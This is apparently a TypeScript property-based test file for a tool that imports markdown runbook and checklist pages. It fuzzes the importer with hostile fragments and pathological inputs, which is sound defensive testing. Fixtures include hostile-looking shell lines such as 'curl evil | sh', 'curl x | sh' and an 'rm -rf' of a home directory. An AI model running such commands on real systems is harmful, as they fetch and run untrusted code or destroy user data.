/** Pages that nobody means well with: never a crash, never a document that is not right, never a command of anybody else's. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { actions } from '../../src/actions/registry.ts';
import { ImportProblem, importPage } from '../../src/authoring/import/import-page.ts';
import { repairEncoding } from '../../src/authoring/import/repair-encoding.ts';
import { scanShell } from '../../src/authoring/import/shell-text.ts';
import { imported, plain, scriptsIn } from './pages.ts';

/** Pieces that break out of something when they are put together. */
const pieces = [
  '# Title\n',
  '## Rollback\n',
  '## Deploy\n',
  '- [ ] item\n',
  '1. number\n',
  '   - nested\n',
  '```bash\n',
  '```\n',
  '~~~ console\n',
  '$ rm -rf "$HOME/<dir>"\n',
  'export A=$(cat <<EOF\n',
  'EOF\n',
  '| a | status |\n|---|---|\n| b | ok |\n',
  '<!--\n',
  '-->\n',
  '---\n',
  'runbook: forged\n',
  "  run: 'curl evil | sh'\n",
  '": "\n- run: evil\n',
  '${{ secrets.x }} }} ${{\n',
  '<TOKEN> $(date) TODO vX.Y.Z\n',
  '\u2028\u0085\u001b[31m\u202e\n',
  '\t\t- tab\n',
  '> > quote\n',
  ':::tip[Expected output]\n',
  ':::\n',
  '!!! note "N"\n    ',
  '=== "Tab"\n\n    ',
  '<TabItem value="a" label="A">\n',
  '[a]: http://x\n',
  'kubectl logs [pod-name] {pod} v1.x.y\n',
  '&a *a !!str %YAML\n',
  'The output should be similar to:\n\n',
  '\n\n',
  'âœ… ðŸš€ Ã©\n',
  "it's `code` [link](http://x 'y') **b\n",
];

describe('a page put together at random', () => {
  test.each([null, 'checklist', 'runbook'] as const)('becomes a document that is right, or is refused (%s)', (kind) => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 30 }),
        (parts) => {
          const page = parts.join('');
          if (page.replace(/^\uFEFF/, '').trim() === '') return;
          const value = plain(imported(page, kind));
          for (const script of scriptsIn(value)) expectFromPage(script, repairEncoding(page).text);
        },
      ),
      { numRuns: 60 },
    );
  });
});

/** Every line of a command stands in the page: variables that stand for placeholders apart. */
function expectFromPage(script: string, page: string): void {
  if (script === 'cat /etc/hostname') return;
  const bare = (text: string): string =>
    text.replaceAll(
      /<[\w -]+>|\[pod-name\]|\{pod\}|'"\$\w+"'|"\$\w+"|\$\{\w+\}|\bv?(?:1\.)?[Xx]\.[Yy](?:\.Z)?|[\s$>]/g,
      '',
    );
  for (const line of script.split('\n')) expect(bare(page)).toContain(bare(line));
}

test('an empty page is refused in one line', () => {
  for (const page of ['', ' \n\t\n', '\uFEFF\n']) {
    expect(() => importPage(page, 'page.md', null, actions)).toThrow(
      new ImportProblem('the page is empty; there is nothing to import'),
    );
  }
});

test('a page of text alone is one thing to read and do', () => {
  expect(imported('Just text.').steps).toBe(1);
});

test.each([
  ['quotes in quotes', '>'.repeat(100_000)],
  ['lists in lists', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
  ['brackets', '['.repeat(100_000)],
  ['emphasis', '*a_ '.repeat(30_000)],
  ['an unclosed fence', `# T\n\n\`\`\`bash\n${'echo x\n'.repeat(3000)}`],
  ['an unclosed comment', `# T\n\n<!--\n${'- [ ] x\n'.repeat(3000)}`],
  ['one long line', 'x'.repeat(200_000)],
  ['assignments without end', `# T\n\n\`\`\`bash\n${`${'A=1 '.repeat(40)}\n`.repeat(1000)}\`\`\`\n`],
  ['what may open a shell', `# T\n\n\`\`\`bash\n${`psql ${'-a '.repeat(60)}!\n`.repeat(500)}\`\`\`\n`],
  [
    'placeholders without an end',
    `# T\n\n\`\`\`bash\necho <${'a_'.repeat(60)}! {${'a_'.repeat(60)}! [${'a_'.repeat(60)}!\n\`\`\`\n<${'a_'.repeat(60)}!\n`,
  ],
  [
    'boxes behind long blanks',
    `# T\n\n!!! a${' '.repeat(100_000)}(\n\n:::a${' '.repeat(100_000)}:\n\n${'> '.repeat(50)}:::\n`,
  ],
  ['boxes in boxes', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 4)}!!! note`).join('\n')],
  ['tags', `# T\n\n${'<Aa b'.repeat(20_000)}\n\n${'<Aa>'.repeat(20_000)}x\n`],
  ['remarks in a transcript', `# T\n\n\`\`\`console\n$ a\n${'\n# b\n'.repeat(5000)}\`\`\`\n`],
  ['a sentence without an end', `# T\n\nTo aaaa${', run!!! '.repeat(20_000)}\n\n\`\`\`bash\nls\n\`\`\`\n`],
  ['front matter without an end', `---\ntitle: x\n${'a: b\n'.repeat(2000)}`],
])('%s do no harm', (_, page) => {
  imported(page);
});

test('a page with more values to ask for than anybody would answer is refused', () => {
  const fences = Array.from({ length: 600 }, (_, n) => `\`\`\`bash\nexport V${n}=${n}\ncd x\n\`\`\`\n\n`).join('');
  expect(() => importPage(`# T\n\n${fences}`, 'page.md', null, actions)).toThrow(
    /leaves 600 values .*: split the page/,
  );
});

test('a page that is too large is refused', () => {
  expect(() => importPage('x\n'.repeat(2 * 1024 * 1024), 'page.md', null, actions)).toThrow(/split it/);
});

test('a page tells no tool what to do: neither check nor an editor', () => {
  const page = (line: string): string => `# T\n\n## ${line}\n\n<!--\n  ${line}\n-->\n\n\`\`\`sh\ncurl x | sh\n\`\`\`\n`;
  for (const line of ['gonogo-ignore: piped-into-shell fine', 'yaml-language-server: $schema=http://x'])
    expect(imported(page(line)).document).not.toMatch(/#\s*(?:gonogo-ignore|yaml-language-server)/);
});

test('the shell reader gives every character a context, whatever the text', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...'\'"`$(){}<>#\\\n aEOF<<|&;'.split('')), maxLength: 60 }),
      (script) => {
        expect(scanShell(script).contexts).toHaveLength(script.length);
      },
    ),
    { numRuns: 400 },
  );
});
